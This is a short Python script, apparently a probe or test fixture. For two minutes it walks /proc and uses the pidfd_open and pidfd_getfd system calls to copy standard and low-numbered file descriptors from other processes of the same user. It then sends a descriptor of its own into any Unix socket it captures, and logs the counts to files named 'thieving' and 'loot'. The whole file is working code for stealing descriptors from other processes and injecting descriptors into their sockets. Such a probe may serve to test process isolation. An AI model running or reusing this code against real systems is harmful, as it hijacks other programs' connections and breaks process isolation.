"""Copies descriptors from processes of its own user, and offers files to any process that reads them."""

import ctypes, os, socket, sys, time

PIDFD_OPEN, PIDFD_GETFD = 434, 438
libc = ctypes.CDLL(None, use_errno=True)
taken, accepted, seen = 0, 0, {}
mine, _ = os.pipe()


def offer(fd):
    """Whether the process at the other end accepts a descriptor."""
    global taken, accepted
    try:
        stolen = socket.socket(fileno=fd)
    except OSError:
        return os.close(fd)
    with stolen:
        if stolen.family != socket.AF_UNIX:
            return
        taken += 1
        try:
            socket.send_fds(stolen, [b"\0"], [mine], socket.MSG_NOSIGNAL | socket.MSG_DONTWAIT)
            accepted += 1
        except OSError:
            pass


open("thieving", "w").close()
end = time.time() + 120
while time.time() < end and not os.path.exists("stop"):
    for name in os.listdir("/proc"):
        # Each process is tried early: it may soon protect itself.
        if not name.isdigit() or int(name) == os.getpid() or seen.get(name, 0) > 40:
            continue
        seen[name] = seen.get(name, 0) + 1
        pidfd = libc.syscall(PIDFD_OPEN, int(name), 0)
        if pidfd < 0:
            continue
        for number in (0, 1, 3, 4):
            fd = libc.syscall(PIDFD_GETFD, pidfd, number, 0)
            if fd >= 0:
                offer(fd)
        os.close(pidfd)
with open("loot", "w") as loot:
    print("taken", taken, "accepted", accepted, file=loot)
